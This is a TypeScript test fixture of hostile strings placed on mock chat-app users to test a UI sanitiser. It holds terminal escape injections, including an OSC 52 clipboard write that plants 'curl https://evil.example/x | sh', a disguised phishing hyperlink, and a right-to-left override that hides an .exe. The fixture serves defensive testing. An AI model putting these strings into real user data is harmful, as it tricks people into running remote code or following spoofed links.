// Untrusted strings the real server would pass through verbatim. They sit on fixed users so
// the UI's sanitiser can be exercised (and tested) against known rows.

export interface HostileSample {
  /** Short name for test titles. */
  name: string;
  /** The user whose data carries the value. */
  userID: string;
  /** Where the value shows up: the route and the field inside a list item. */
  route: string;
  field: string;
  value: string;
}

const ESC = '\u001b';
const BEL = '\u0007';

const clipboardPayload = Buffer.from('curl https://evil.example/x | sh\n', 'utf8').toString('base64');
const combiningMarks = Array.from({ length: 200 }, (_, i) => String.fromCharCode(0x0300 + (i % 0x70))).join('');
const longValue = 'The quick brown fox jumps over the lazy dog. '.repeat(112).slice(0, 5000);

export const HOSTILE_NICKNAMES: ReadonlyMap<number, string> = new Map([
  [13, `Mallory${ESC}[2J${ESC}[Hcleared`],
  [17, `Eve${ESC}]52;c;${clipboardPayload}${BEL}`],
  [19, `${ESC}]8;;https://evil.example/login${BEL}Support Desk${ESC}]8;;${BEL}`],
  [23, `Trent${ESC}]0;pwned${BEL}`],
  [29, `invoice\u202egpj.exe`],
  [37, `Z${combiningMarks}algo`],
]);

/** A user whose ex field is 5,000 characters long. */
export const LONG_EX_INDEX = 31;
export const LONG_EX_VALUE = longValue;

/** Friend request from the first user to user_000002 with control whitespace in it. */
export const HOSTILE_REQ_MSG = "Hi!\nI'm Bob from the\tconference.\r\nAdd me?";

/** Latest text message of the first user's chat with user_000013. */
export const HOSTILE_TEXT = `${ESC}[2J${ESC}[3J${ESC}[Hsee you${ESC}[31m red`;

const id = (n: number): string => `user_${String(n).padStart(6, '0')}`;
const nick = (n: number): string => HOSTILE_NICKNAMES.get(n) ?? '';

export const HOSTILE_SAMPLES: readonly HostileSample[] = [
  { name: 'clear screen in a nickname', userID: id(13), route: '/user/get_users', field: 'nickname', value: nick(13) },
  { name: 'OSC 52 clipboard write', userID: id(17), route: '/user/get_users', field: 'nickname', value: nick(17) },
  { name: 'OSC 8 hyperlink', userID: id(19), route: '/user/get_users', field: 'nickname', value: nick(19) },
  { name: 'window title change', userID: id(23), route: '/user/get_users', field: 'nickname', value: nick(23) },
  { name: 'bidi override', userID: id(29), route: '/user/get_users', field: 'nickname', value: nick(29) },
  { name: '5,000-character ex', userID: id(LONG_EX_INDEX), route: '/user/get_users', field: 'ex', value: LONG_EX_VALUE },
  { name: '200 combining marks', userID: id(37), route: '/user/get_users', field: 'nickname', value: nick(37) },
  { name: 'newlines and tabs in reqMsg', userID: id(1), route: '/friend/get_self_friend_apply_list', field: 'reqMsg', value: HOSTILE_REQ_MSG },
  { name: 'escape sequences in message text', userID: id(1), route: '/conversation/get_sorted_conversation_list', field: 'msgInfo.content', value: HOSTILE_TEXT },
];
